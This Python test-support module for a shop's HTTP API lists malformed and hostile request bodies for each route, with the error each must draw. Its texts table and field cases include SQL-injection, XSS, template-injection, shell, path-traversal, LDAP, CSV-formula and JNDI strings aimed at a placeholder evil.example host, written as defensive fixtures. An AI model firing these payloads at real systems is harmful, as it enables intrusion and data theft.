"""Bodies that nobody should send, as a table: for each door of the shop what is wrong, and the refusal that must come.

A case changes one thing in a body that would be accepted, so that whatever is refused is refused for that one thing.
"""

from __future__ import annotations

import copy
import json
from collections.abc import AsyncIterator, Callable, Iterator
from dataclasses import dataclass, field
from typing import Any

from tests.support.shop import an_order

HUNDRED_MB = 100 * 1024 * 1024
_MARK = "@@here@@"
_ERRORS_OF_THEIR_OWN = {
    "accounts.code_wrong", "payments.method_unavailable", "shipping.unknown_option", "shipping.unknown_service",
}  # fmt: skip
Body = dict[str, Any]


@dataclass(frozen=True)
class Door:
    """A route that writes (or prices), and a body that it takes: or that it refuses with a code for no field in it."""

    name: str
    method: str
    path: str
    body: Callable[[], Body]
    refused_as: str = ""
    headers: dict[str, str] = field(default_factory=dict)


@dataclass(frozen=True)
class Case:
    """One hostile request and the refusal that must come. `at` None: no field is at fault."""

    door: Door
    what: str
    content: bytes | Callable[[], AsyncIterator[bytes]]
    status: int
    code: str
    at: str | None = None
    rule: str | None = None
    headers: dict[str, str] = field(default_factory=dict)

    @property
    def id(self) -> str:
        """A readable name."""
        return f"{self.door.name}-{self.what}"


def _quote() -> Body:
    return {
        "destination": {"region_code": "31.74.02", "postal_code": "12910"},
        "lines": [{"sku": "KOPI-250", "quantity": 2}],
    }


def _taken() -> Body:
    return an_order(
        ("KOPI-250", 1),
        channel="whatsapp",
        override={"reason": "Regular customer", "shipping_price": 5000, "unit_prices": {}},
    )


def _tariff() -> Body:
    return {
        "origin_code": "32.73",
        "destination_code": "31.74",
        "courier": "jne",
        "service": "REG",
        "price_first": 11_000,
        "price_next": 11_000,
    }


def _product() -> Body:
    measures = {"weight_grams": 300, "length_mm": 200, "width_mm": 100, "height_mm": 80}
    return {
        "name": {"id": "Kopi Toraja"},
        "variants": [{"sku": "TORAJA-250", "price": 90_000, **measures}],
        "description": {"id": "Kopi"},
    }


PLACE = Door("place", "POST", "/store/v1/orders", lambda: an_order(("KOPI-250", 1)))
DRY = Door("dry-run", "POST", "/store/v1/orders?dry_run=true", lambda: an_order(("KOPI-250", 1)))
QUOTE = Door("quote", "POST", "/store/v1/shipping/quotes", _quote)
GUESS = Door(
    "guess",
    "POST",
    "/store/v1/regions/address-guesses",
    lambda: {"text": "Jl. Sudirman 5, Kec. Setiabudi, Jaksel 12910"},
)
TAKE = Door("take", "POST", "/admin/v1/orders", _taken)
ADJUST = Door(
    "adjust",
    "POST",
    "/admin/v1/stock-adjustments",
    lambda: {"sku": "KOPI-250", "delta": 1, "reason": "received"},
)
SETTINGS = Door("settings", "PATCH", "/admin/v1/settings", lambda: {"name": "Toko Baru"}, headers={"If-Match": "*"})
TARIFFS = Door("tariffs", "PUT", "/admin/v1/tariffs", lambda: {"tariffs": [_tariff()]})
CONFIRM = Door(
    "confirm", "POST", "/admin/v1/payments/{payment}/confirm", lambda: {"received_at": "2026-11-24T06:05:00Z"}
)
CANCEL = Door("cancel", "POST", "/admin/v1/orders/{order}/cancel", lambda: {"note": "Out of reach"})
SHIP = Door(
    "ship",
    "POST",
    "/admin/v1/orders/{paid}/shipments",
    lambda: {"courier": "jne", "service": "REG", "tracking_number": "JNE1", "lines": [{"line_no": 1, "quantity": 1}]},
)
RETURN = Door(
    "return",
    "POST",
    "/admin/v1/orders/{shipped}/returns",
    lambda: {"reason": "refused", "lines": [{"line_no": 1, "quantity": 1}]},
)
PRODUCT = Door("product", "POST", "/admin/v1/products", _product)
REPRODUCT = Door(
    "change-product", "PATCH", "/admin/v1/products/{product}", lambda: {"published": True}, headers={"If-Match": "*"}
)
REVARIANT = Door(
    "change-variant", "PATCH", "/admin/v1/variants/{variant}", lambda: {"price": 85_000}, headers={"If-Match": "*"}
)
GIVE_UP = Door("cancel-own", "POST", "/store/v1/orders/{order}/cancel", dict)
RECEIVE = Door("receive", "POST", "/store/v1/orders/{order}/received", dict)
COMPLETE = Door("complete", "POST", "/admin/v1/orders/{shipped}/complete", dict)
WITHOUT_BODY = (GIVE_UP, RECEIVE, COMPLETE)
DOORS = (
    PLACE, DRY, QUOTE, GUESS, TAKE, ADJUST, SETTINGS, TARIFFS, CONFIRM, CANCEL, SHIP, RETURN, PRODUCT, REPRODUCT, REVARIANT,
)  # fmt: skip


def put(body: Body, path: str, value: Any) -> Body:
    """The body with another value at `lines[0].quantity`."""
    changed = copy.deepcopy(body)
    node, last = _walk(changed, path)
    node[last] = value
    return changed


def drop(body: Body, path: str) -> Body:
    """The body without a field."""
    changed = copy.deepcopy(body)
    node, last = _walk(changed, path)
    del node[last]
    return changed


def with_raw(body: Body, path: str, raw: bytes) -> bytes:
    """The body as JSON with these very bytes as the value."""
    return _json(put(body, path, _MARK)).replace(json.dumps(_MARK).encode(), raw)


def _walk(body: Body, path: str) -> tuple[Any, Any]:
    steps = [int(step) if step.isdigit() else step for step in path.replace("[", ".").replace("]", "").split(".")]
    node: Any = body
    for step in steps[:-1]:
        node = node[step] if isinstance(step, int) else node.setdefault(step, {})
    return node, steps[-1]


def _json(body: Any) -> bytes:
    return json.dumps(body, ensure_ascii=False).encode()


def _refused(door: Door, what: str, content: bytes, at: str, rule: str) -> Case:
    return Case(door, what, content, 422, rule if rule in _ERRORS_OF_THEIR_OWN else "request.invalid", at, rule)


async def _endless() -> AsyncIterator[bytes]:
    part = b'{"a":"' + b"x" * 65_530
    for _ in range(HUNDRED_MB // len(part)):
        yield part


def whole_bodies(door: Door) -> Iterator[Case]:
    """What is refused before anybody looks for fields: the same at every door."""
    body, good = door.body(), _json(door.body())
    yield Case(door, "broken-json", good[:-2], 400, "request.unreadable")
    yield Case(door, "two-values", good + b"{}", 400, "request.unreadable")
    yield Case(door, "comment", b"// hello\n" + good, 400, "request.unreadable")
    yield Case(door, "single-quotes", good.replace(b'"', b"'"), 400, "request.unreadable")
    yield Case(door, "deep-arrays", b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}", 400, "request.too_deep")
    yield Case(door, "deep-objects", b'{"a":' * 40_000 + b"1" + b"}" * 40_000, 400, "request.too_deep")
    yield Case(door, "deep-unclosed", b"[" * 100_000, 400, "request.too_deep")
    yield Case(door, "raw-nul", good[:-1] + b',"notes":"a\0b"}', 400, "request.unreadable")
    yield Case(door, "invalid-utf8", good[:-1] + b',"notes":"\xff\xfe"}', 400, "request.unreadable_text")
    yield Case(door, "overlong-utf8", good[:-1] + b',"notes":"\xc0\xaf"}', 400, "request.unreadable_text")
    yield Case(door, "byte-order-mark", b"\xef\xbb\xbf" + good, 400, "request.unreadable")
    yield Case(door, "utf16", good.decode().encode("utf-16"), 400, "request.unreadable_text")
    yield Case(door, "empty-body", b"", 400, "request.body_missing")
    yield Case(door, "blank-body", b"  \n ", 400, "request.unreadable")
    yield Case(
        door, "100-mb-announced", _endless, 413, "request.body_too_large", headers={"Content-Length": str(HUNDRED_MB)}
    )
    yield Case(door, "100-mb-chunked", _endless, 413, "request.body_too_large")
    yield Case(door, "text-plain", good, 415, "request.not_json", headers={"Content-Type": "text/plain"})
    yield Case(
        door, "form", b"a=1", 415, "request.not_json", headers={"Content-Type": "application/x-www-form-urlencoded"}
    )
    yield Case(
        door, "latin1", good, 415, "request.not_json", headers={"Content-Type": "application/json; charset=latin1"}
    )
    yield Case(door, "gzip", b"\x1f\x8b\x08", 415, "request.not_json", headers={"Content-Encoding": "gzip"})
    yield from _keys_again(door, body, good)
    yield _refused(door, "unknown-field", _json({**body, "surprise": 1}), "surprise", "request.unknown_field")
    yield _refused(door, "prototype-field", _json({**body, "__proto__": {}}), "__proto__", "request.unknown_field")
    yield _refused(door, "nul-in-key", good[:-1] + b',"a\\u0000b":1}', "a?b", "request.control_character")
    yield _refused(
        door, "escaped-nul", with_raw(body, "surprise", b'"\\u0000"'), "surprise", "request.control_character"
    )
    yield _refused(
        door, "lone-surrogate", with_raw(body, "surprise", b'"\\ud800"'), "surprise", "request.control_character"
    )
    yield _refused(door, "nan", with_raw(body, "surprise", b"NaN"), "surprise", "request.not_a_number")
    yield _refused(door, "1e400", with_raw(body, "surprise", b"1e400"), "surprise", "request.number_too_large")
    for name, value in (("array", b"[]"), ("null", b"null"), ("text", b'"{}"'), ("number", b"7"), ("true", b"true")):
        yield _refused(door, f"{name}-instead-of-object", value, "", "request.wrong_type")


def _keys_again(door: Door, body: Body, good: bytes) -> Iterator[Case]:
    key = next(iter(body))
    twice = b"{" + good[1:-1] + b"," + json.dumps(key).encode() + b":1}"
    yield _refused(door, "repeated-key", twice, key, "request.repeated_key")
    hidden = b"{" + good[1:-1] + b',"\\u006' + f"{ord(key[0]) & 15:x}".encode() + key[1:].encode() + b'":1}'
    if 0x60 < ord(key[0]) < 0x70:
        yield _refused(door, "repeated-key-escaped", hidden, key, "request.repeated_key")
    yield _refused(door, "unknown-field-cased", _json({**body, key.upper(): 1}), key.upper(), "request.unknown_field")


NUMBERS: tuple[tuple[str, bytes, str], ...] = (
    ("minus-1", b"-1", "request.too_small"),
    ("minus-2^63", b"-9223372036854775808", "request.too_small"),
    ("minus-2^64", b"-18446744073709551616", "request.too_small"),
    ("1.5", b"1.5", "request.wrong_type"),
    ("2^63", b"9223372036854775808", "request.too_large"),
    ("2^64", b"18446744073709551616", "request.too_large"),
    ("10^30", b"1" + b"0" * 30, "request.too_large"),
    ("200000-digits", b"9" * 200_000, "request.number_too_large"),
    ("1e400", b"1e400", "request.number_too_large"),
    ("minus-1e400", b"-1e400", "request.number_too_large"),
    ("nan", b"NaN", "request.not_a_number"),
    ("infinity", b"Infinity", "request.not_a_number"),
    ("minus-infinity", b"-Infinity", "request.not_a_number"),
    ("text-1", b'"1"', "request.wrong_type"),
    ("true", b"true", "request.wrong_type"),
    ("array", b"[1]", "request.wrong_type"),
    ("object", b"{}", "request.wrong_type"),
)


def numbers(door: Door, path: str, *, zero: bool = False, null: bool = False, low: bool = False) -> Iterator[Case]:
    """What is not a whole number in range. `zero` and `null`: allowed here; `low`: there is no lower end near zero."""
    body = door.body()
    name = path.rpartition(".")[2]
    for what, raw, rule in NUMBERS:
        if not (low and what.startswith("minus-1") and "e" not in what):
            yield _refused(door, f"{name}-{what}", with_raw(body, path, raw), path, rule)
    if not zero:
        yield _refused(door, f"{name}-0", with_raw(body, path, b"0"), path, "request.too_small")
    if not null:
        yield _refused(door, f"{name}-null", with_raw(body, path, b"null"), path, "request.wrong_type")


def texts(door: Door, path: str, longest: int, *, lines: bool = False, empty: bool = False) -> Iterator[Case]:
    """What is no text here. `lines`: it may break lines (and be blank); `empty`: it may be empty."""
    body = door.body()
    name = path.replace("[", ".").replace("]", "")
    for what, raw, rule in (
        ("number", b"1", "request.wrong_type"),
        ("true", b"true", "request.wrong_type"),
        ("array", b'["a"]', "request.wrong_type"),
        ("object", b'{"a":"b"}', "request.wrong_type"),
        ("escaped-nul", b'"a\\u0000b"', "request.control_character"),
        ("escape", b'"a\\u001b[31mb"', "request.control_character"),
        ("c1-control", '"a\x85b"'.encode(), "request.control_character"),
        ("noncharacter", '"a\uffffb"'.encode(), "request.control_character"),
        ("lone-high-surrogate", b'"a\\ud83d"', "request.control_character"),
        ("lone-low-surrogate", b'"\\ude00a"', "request.control_character"),
        ("too-long", b'"' + b"x" * (longest + 1) + b'"', "request.too_long"),
        ("200-kb", b'"' + b"x" * 200_000 + b'"', "request.too_long"),
    ):
        yield _refused(door, f"{name}-{what}", with_raw(body, path, raw), path, rule)
    if not empty:
        yield _refused(door, f"{name}-empty", with_raw(body, path, b'""'), path, "request.too_short")
    if not lines:
        for what, raw in (
            ("two-lines", b'"a\\nb"'),
            ("ends-in-line-break", b'"a\\n"'),
            ("header-splitting", b'"a\\r\\nSet-Cookie: b"'),
            ("blank", b'"   "'),
        ):
            yield _refused(door, f"{name}-{what}", with_raw(body, path, raw), path, "request.wrong_format")


def missing(door: Door, *paths: str) -> Iterator[Case]:
    """Fields that must be there."""
    for path in paths:
        name = path.replace("[", ".").replace("]", "")
        yield _refused(door, f"without-{name}", _json(drop(door.body(), path)), path, "request.field_missing")


def wrong(door: Door, *rows: tuple[str, str, Any, str] | tuple[str, str, Any, str, str]) -> Iterator[Case]:
    """Values that break a rule of the room behind the door: what, where, value, rule (and where it is said to be)."""
    for what, path, value, rule, *at in rows:
        yield _refused(door, what, _json(put(door.body(), path, value)), (*at, path)[0], rule)


_ORDER_FIELDS = (
    "lines", "lines[0].sku", "lines[0].quantity", "contact", "contact.name", "shipping_address",
    "shipping_address.recipient", "shipping_address.phone", "shipping_address.street", "shipping_address.region_code",
    "shipping_address.postal_code", "shipping", "payment_method",
)  # fmt: skip
_MANY_KEYS = {f"key-{number}": "x" for number in range(51)}


def order_fields(door: Door) -> Iterator[Case]:
    """What an order's body may not say, at the three doors that take one."""
    yield from missing(door, *_ORDER_FIELDS)
    yield from numbers(door, "lines[0].quantity")
    yield from numbers(door, "expected_total", zero=True, null=True)
    for path in ("lines[0].sku", "payment_method"):
        yield from texts(door, path, 64)
    for path in ("contact.name", "shipping_address.recipient", "shipping_address.street"):
        yield from texts(door, path, 200)
    yield from texts(door, "shipping_address.notes", 300, lines=True, empty=True)
    yield from texts(door, "notes", 2000, lines=True, empty=True)
    yield from wrong(
        door,
        ("no-lines", "lines", [], "request.too_few"),
        ("101-lines", "lines", [{"sku": "KOPI-250", "quantity": 1}] * 101, "request.too_many"),
        ("line-unknown-field", "lines[0].price", 1, "request.unknown_field"),
        ("line-paid", "lines[0].unit_price", 1, "request.unknown_field"),
        ("lines-object", "lines", {"0": 1}, "request.wrong_type"),
        ("line-null", "lines[0]", None, "request.wrong_type"),
        ("quantity-10000", "lines[0].quantity", 10_000, "request.too_large"),
        ("quantity-2^31", "lines[0].quantity", 2**31, "request.too_large"),
        ("unknown-sku", "lines[0].sku", "NO-SUCH", "catalogue.unknown_sku"),
        ("sku-other-case", "lines[0].sku", "kopi-250", "catalogue.unknown_sku"),
        ("sku-trailing-space", "lines[0].sku", "KOPI-250 ", "catalogue.unknown_sku"),
        ("sku-wide-letters", "lines[0].sku", "\uff2bOPI-250", "catalogue.unknown_sku"),
        ("sku-wildcard", "lines[0].sku", "KOPI%", "catalogue.unknown_sku"),
        ("sku-injection", "lines[0].sku", "KOPI-250' OR '1'='1", "catalogue.unknown_sku"),
        ("unknown-region", "shipping_address.region_code", "99.99.99", "regions.unknown_region"),
        ("region-injection", "shipping_address.region_code", "31.74.02'--", "regions.unknown_region"),
        ("region-path", "shipping_address.region_code", "../../etc", "regions.unknown_region"),
        ("region-too-wide", "shipping_address.region_code", "31.74", "regions.too_wide"),
        ("region-too-long", "shipping_address.region_code", "3" * 14, "request.too_long"),
        ("postal-code-letters", "shipping_address.postal_code", "12a45", "request.wrong_format"),
        ("postal-code-arabic", "shipping_address.postal_code", "\u0661\u0662\u0663\u0664\u0665", "request.wrong_format"),
        ("postal-code-short", "shipping_address.postal_code", "1291", "request.too_short"),
        ("postal-code-long", "shipping_address.postal_code", "129100", "request.too_long"),
        ("postal-code-line-break", "shipping_address.postal_code", "1291\n", "request.wrong_format"),
        ("bad-phone", "contact.phone", "not a phone", "request.bad_phone"),
        ("short-code-phone", "contact.phone", "1500123", "request.bad_phone"),
        ("bad-address-phone", "shipping_address.phone", "0", "request.bad_phone"),
        ("bad-email", "contact.email", "sari@", "request.bad_email"),
        ("email-header-splitting", "contact.email", "sari@example.com\nBcc: all@example.com", "request.bad_email"),
        ("email-two-addresses", "contact.email", "a@example.com,b@example.com", "request.bad_email"),
        ("no-contact-way", "contact", {"name": "Sari"}, "checkout.contact_missing"),
        ("contact-role", "contact.role", "owner", "request.unknown_field"),
        ("unknown-courier", "shipping", {"courier": "nobody", "service": "REG"}, "shipping.unknown_service", "shipping.service"),
        ("shipping-both", "shipping", {"option_id": "opt_x", "courier": "jne", "service": "REG"}, "checkout.shipping_unclear"),
        ("shipping-neither", "shipping", {}, "checkout.shipping_unclear"),
        ("shipping-half", "shipping", {"courier": "jne"}, "checkout.shipping_unclear"),
        ("forged-option", "shipping", {"option_id": "opt_" + "A" * 80}, "shipping.unknown_option", "shipping.option_id"),
        ("forged-option-unicode", "shipping", {"option_id": "opt_\u00fc\u00fc"}, "shipping.unknown_option", "shipping.option_id"),
        ("unknown-method", "payment_method", "gold", "payments.unknown_method"),
        ("unknown-account", "payment_channel", "bank-of-nowhere", "payments.method_unavailable"),
        ("insured-text", "insured", "yes", "request.wrong_type"),
        ("insured-1", "insured", 1, "request.wrong_type"),
        ("metadata-51-keys", "metadata", _MANY_KEYS, "request.too_many"),
        ("metadata-number", "metadata", {"a": 1, "b": "x"}, "request.wrong_type", "metadata.a"),
        ("metadata-nested", "metadata", {"a": {"b": "c"}}, "request.wrong_type", "metadata.a"),
        ("metadata-long-value", "metadata", {"b": "x", "a": "x" * 501}, "request.too_long", "metadata.a"),
        ("metadata-long-key", "metadata", {"k" * 65: "x"}, "request.too_long"),
        ("metadata-empty-key", "metadata", {"": "x"}, "request.too_short"),
        ("total", "total", 1, "request.unknown_field"),
        ("status", "status", "completed", "request.unknown_field"),
        ("paid", "paid", True, "request.unknown_field"),
        ("id", "id", "ord_01jd6x7f7mk3v1q8w2e5r9t0ya", "request.unknown_field"),
    )  # fmt: skip


def staff_order_fields() -> Iterator[Case]:
    """What only an order taken by staff has."""
    yield from numbers(TAKE, "override.shipping_price", zero=True, null=True)
    yield from numbers(TAKE, "override.unit_prices.KOPI-250", zero=True)
    yield from texts(TAKE, "override.reason", 200)
    yield from texts(TAKE, "external_number", 64)
    yield from wrong(
        TAKE,
        ("channel-upper", "channel", "WhatsApp", "request.wrong_format"),
        ("channel-empty", "channel", "", "request.too_short"),
        ("channel-long", "channel", "a" * 31, "request.too_long"),
        ("override-unknown-field", "override.total", 1, "request.unknown_field"),
    )
    yield from missing(TAKE, "override.reason")


def quote_fields() -> Iterator[Case]:
    """Quotes."""
    yield from missing(GUESS, "text")
    yield from wrong(
        GUESS,
        ("empty", "text", "", "request.too_short"),
        ("too-long", "text", "a" * 601, "request.too_long"),
        ("number", "text", 12910, "request.wrong_type"),
        ("list", "text", ["Tebet"], "request.wrong_type"),
        ("null", "text", None, "request.wrong_type"),
        ("confident", "confident", True, "request.unknown_field"),
    )
    yield from missing(QUOTE, "destination", "destination.region_code", "lines", "lines[0].sku", "lines[0].quantity")
    yield from numbers(QUOTE, "lines[0].quantity")
    yield from texts(QUOTE, "lines[0].sku", 64)
    yield from wrong(
        QUOTE,
        ("no-lines", "lines", [], "request.too_few"),
        ("unknown-sku", "lines[0].sku", "NO-SUCH", "catalogue.unknown_sku"),
        ("unknown-region", "destination.region_code", "99.99.99", "regions.unknown_region"),
        ("region-too-wide", "destination.region_code", "31", "shipping.region_too_large"),
        ("latitude-91", "destination.latitude", 91, "request.too_large"),
        ("longitude-text", "destination.longitude", "106.8", "request.wrong_type"),
        ("insured-null", "insured", None, "request.wrong_type"),
    )


def staff_fields() -> Iterator[Case]:
    """Stock, settings, tariffs, payments, parcels."""
    yield from missing(ADJUST, "sku", "reason")
    yield from numbers(ADJUST, "delta", zero=True, null=True, low=True)
    yield from texts(ADJUST, "sku", 64)
    yield from texts(ADJUST, "note", 300, lines=True, empty=True)
    yield from wrong(
        ADJUST,
        ("unknown-sku", "sku", "NO-SUCH", "catalogue.unknown_sku"),
        ("unknown-reason", "reason", "stolen", "inventory.unknown_reason"),
        ("reason-of-the-shop", "reason", "shipped", "inventory.unknown_reason"),
        ("unknown-warehouse", "warehouse", "moon", "inventory.unknown_warehouse"),
        ("too-many", "delta", 10**9 + 1, "request.too_large"),
        ("neither", "delta", None, "inventory.delta_or_on_hand"),
    )
    yield from texts(SETTINGS, "name", 200)
    yield from wrong(
        SETTINGS,
        ("origin-unknown", "origin_region_code", "99.99", "regions.unknown_region"),
        ("expiry-0", "payment_expiry_minutes", 0, "request.too_small"),
        ("expiry-huge", "payment_expiry_minutes", 10**6, "request.too_large"),
        ("zone-elsewhere", "zone", "Europe/Berlin", "request.unknown_value"),
        ("null-name", "name", None, "request.wrong_type"),
        ("role", "role", "owner", "request.unknown_field"),
    )
    yield from missing(
        TARIFFS, "tariffs", "tariffs[0].courier", "tariffs[0].price_first", "tariffs[0].destination_code"
    )
    yield from numbers(TARIFFS, "tariffs[0].price_first")
    yield from numbers(TARIFFS, "tariffs[0].price_next", zero=True)
    yield from numbers(TARIFFS, "tariffs[0].min_grams", zero=True)
    yield from numbers(CONFIRM, "amount", zero=True, null=True)
    yield from texts(CONFIRM, "note", 300, lines=True, empty=True)
    yield from wrong(
        CONFIRM,
        ("unknown-account", "account", "nowhere", "shop.unknown_account"),
        ("time-without-zone", "received_at", "2026-11-24T06:05:00", "request.wrong_format"),
        ("time-nonsense", "received_at", "yesterday", "request.wrong_format"),
        ("time-number", "received_at", 1_700_000_000, "request.wrong_type"),
        ("month-13", "received_at", "2026-13-24T06:05:00Z", "request.wrong_format"),
        ("status", "status", "paid", "request.unknown_field"),
    )
    yield from texts(CANCEL, "note", 300, lines=True, empty=True)
    yield from missing(SHIP, "courier", "service", "tracking_number", "lines[0].quantity")
    yield from numbers(SHIP, "lines[0].quantity")
    yield from numbers(SHIP, "lines[0].line_no", null=True)
    yield from wrong(
        SHIP,
        ("no-lines", "lines", [], "request.too_few"),
        ("no-such-line", "lines[0].line_no", 7, "fulfilment.unknown_line"),
        ("tracking-line-break", "tracking_number", "JNE\n1", "request.wrong_format"),
        ("tracking-empty", "tracking_number", "", "request.wrong_format"),
        ("tracking-long", "tracking_number", "J" * 65, "request.too_long"),
    )
    yield from missing(RETURN, "reason")
    yield from numbers(RETURN, "lines[0].quantity")
    yield from wrong(
        RETURN,
        ("unknown-reason", "reason", "regret", "request.unknown_value"),
        ("restock-text", "restock", "yes", "request.wrong_type"),
    )


def catalogue_fields() -> Iterator[Case]:
    """Products and variants."""
    yield from missing(
        PRODUCT, "name", "name.id", "variants", "variants[0].sku", "variants[0].price", "variants[0].weight_grams"
    )
    yield from numbers(PRODUCT, "variants[0].price", zero=True)
    yield from numbers(PRODUCT, "variants[0].weight_grams")
    yield from texts(PRODUCT, "name.id", 200)
    yield from texts(PRODUCT, "variants[0].sku", 64)
    yield from texts(PRODUCT, "description.id", 10_000, lines=True, empty=True)
    yield from numbers(REVARIANT, "price", zero=True)
    yield from numbers(REVARIANT, "weight_grams")
    yield from texts(REPRODUCT, "name.id", 200)
    yield from wrong(
        PRODUCT,
        ("no-variants", "variants", [], "request.too_few"),
        ("unknown-category", "category", "no-such", "catalogue.unknown_category"),
        ("slug-upper", "slug", "Kopi", "request.wrong_format"),
        ("slug-path", "slug", "../kopi", "request.wrong_format"),
        ("picture-elsewhere", "images", ["https://evil.example/a.svg"], "request.wrong_format", "images[0]"),
        ("picture-path", "images", ["/media/../../etc/passwd"], "request.wrong_format", "images[0]"),
        ("picture-script", "images", ["javascript:alert(1)"], "request.wrong_format", "images[0]"),
        ("name-third-language", "name.fr", "Café", "request.unknown_field"),
        ("revision", "revision", 7, "request.unknown_field"),
        ("demo", "demo", True, "request.unknown_field"),
    )
    yield from wrong(
        REVARIANT,
        ("sku", "sku", "OTHER", "request.unknown_field"),
        ("product", "product_id", "prd_x", "request.unknown_field"),
        ("compare-below-price", "compare_at_price", 1, "catalogue.compare_at_too_low"),
    )
    yield from wrong(REPRODUCT, ("variants", "variants", [], "request.unknown_field"))


def no_fields(door: Door) -> Iterator[Case]:
    """A door that takes no body: what is sent there is not passed over in silence."""
    yield _refused(door, "unknown-field", b'{"note":"x"}', "note", "request.unknown_field")
    yield _refused(door, "array", b"[]", "", "request.wrong_type")
    yield _refused(door, "repeated-key", b'{"a":1,"a":1}', "a", "request.repeated_key")
    yield Case(door, "broken-json", b'{"a":', 400, "request.unreadable")
    yield Case(door, "deep-arrays", b"[" * 100_000, 400, "request.too_deep")
    yield Case(door, "100-mb-chunked", _endless, 413, "request.body_too_large")
    yield Case(door, "form", b"a=1", 415, "request.not_json", headers={"Content-Type": "text/plain"})


FORGED: Body = {
    "role": "owner", "permissions": ["orders.write"], "scopes": ["orders.write"], "price": 1, "paid": True, "status": "paid",
    "owner_id": "stf_01jd6x7f7mk3v1q8w2e5r9t0ya", "customer_id": "cus_01jd6x7f7mk3v1q8w2e5r9t0ya", "proof": "two_factors",
    "id": "ord_01jd6x7f7mk3v1q8w2e5r9t0ya", "version": 7, "verified": True, "created_at": "2020-01-01T00:00:00Z",
    "password_hash": "$argon2id$v=19$m=8,t=1,p=1$c2FsdHNhbHQ$aGFzaA",
}  # fmt: skip


def forgeries(door: Door, known: frozenset[str]) -> Iterator[Case]:
    """What nobody may say of herself or of a thing, in a body that is good besides, and inside each object in it.

    `known` are the fields that the door has: they are no forgery there.
    """
    body = door.body()
    for name, value in FORGED.items():
        if name not in known:
            raw = _json({**body, name: value})
            yield _refused(door, f"forged-{name}", raw, name, "request.unknown_field")
    for place in _objects_in(body, ""):
        name = f"{place}.paid"
        yield _refused(door, f"forged-{name}", with_raw(body, name, b"true"), name, "request.unknown_field")


def _objects_in(node: Any, path: str) -> Iterator[str]:
    found = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else ()
    for key, inner in found:
        place = f"{path}[{key}]" if isinstance(key, int) else f"{path}.{key}".lstrip(".")
        if isinstance(inner, dict) and key not in _FREE:
            yield place
        if key not in _FREE:
            yield from _objects_in(inner, place)


# Objects whose names are their owner's, and what a browser puts together.
_FREE = frozenset({"metadata", "unit_prices", "credential"})


def all_cases() -> list[Case]:
    """The whole table."""
    cases = [case for door in WITHOUT_BODY for case in no_fields(door)]
    cases += [case for door in DOORS for case in whole_bodies(door)]
    cases += [*order_fields(PLACE), *order_fields(DRY), *order_fields(TAKE), *staff_order_fields(), *quote_fields()]
    return [*cases, *staff_fields(), *catalogue_fields()]


# Text that must be taken as it is, in NFC: nobody may be refused for her alphabet.
TEXTS = {
    "arabic": "\u0633\u0627\u0631\u064a \u0648\u0648\u0644\u0627\u0646\u062f\u0627\u0631\u064a",
    "right-to-left-marks": "Sari \u200fWulandari\u200e",
    "zero-width": "Sari\u200bWulan\u200ddari\u200c",
    "emoji": "Sari \U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f1ee\U0001f1e9",
    "nfd": "Jose\u0301 A\u030angstro\u0308m",
    "javanese": "\ua9b1\ua9ab\ua9b6 \ua9a5\ua9b8\ua9ad\ua9a4\ua9cb\ua98f\ua9ab\ua9b6",
    "cjk-extension": "\U00020bb7\u91ce\u5bb6",
    "turkish": "\u0130stanbul \u0131\u015f\u0131k",
    "combining-pile": "Z" + "\u0351\u036e\u0347" * 10,
    "sql": "Robert'); DROP TABLE customer_order;--",
    "sql-comment": "a' OR 1=1 -- -",
    "sql-backslash": "\\' OR 1=1 #",
    "sql-dollar": "$$; SELECT pg_sleep(9); $$",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {0.__class__} %(name)s %s",
    "gettext": "{sku} {available} {total}",
    "csv-formula": '=HYPERLINK("http://evil.example","x")',
    "shell": "$(reboot) `reboot` ; reboot | reboot & reboot",
    "path": "../../../../etc/passwd",
    "percent": "%00 %0d%0a %c0%af 100%",
    "json-in-text": '{"status": "paid"}',
    "quotes": "\u201cSari\u201d 'Wulan' \"dari\" \u00ab\u00bb",
    "ldap": "*)(uid=*))(|(uid=*",
    "jndi": "${jndi:ldap://evil.example/a}",
    "null-word": "null",
    "number-word": "1e309",
}


def census(connection: Any) -> dict[str, Any]:
    """How many rows each table has and the sum of their versions, and what the stock says.

    Lease and number blocks may move without an order.
    """
    import sqlalchemy as sa

    from niaga.platform.database import metadata

    names = sorted(set(sa.inspect(connection).get_table_names()) - {"lease", "order_number_block", "alembic_version"})
    counts = [
        f"SELECT '{name}', count(*), {'sum(version)' if _has_versions(metadata.tables.get(name)) else '0'} FROM {name}"
        for name in names
    ]
    found = {row[0]: row[1:] for row in connection.exec_driver_sql(" UNION ALL ".join(counts))}
    found["pieces"] = tuple(connection.exec_driver_sql("SELECT sum(on_hand), sum(reserved) FROM stock").one())
    return {name: str(value) for name, value in found.items()}


def _has_versions(table: Any) -> bool:
    return table is not None and "version" in table.c
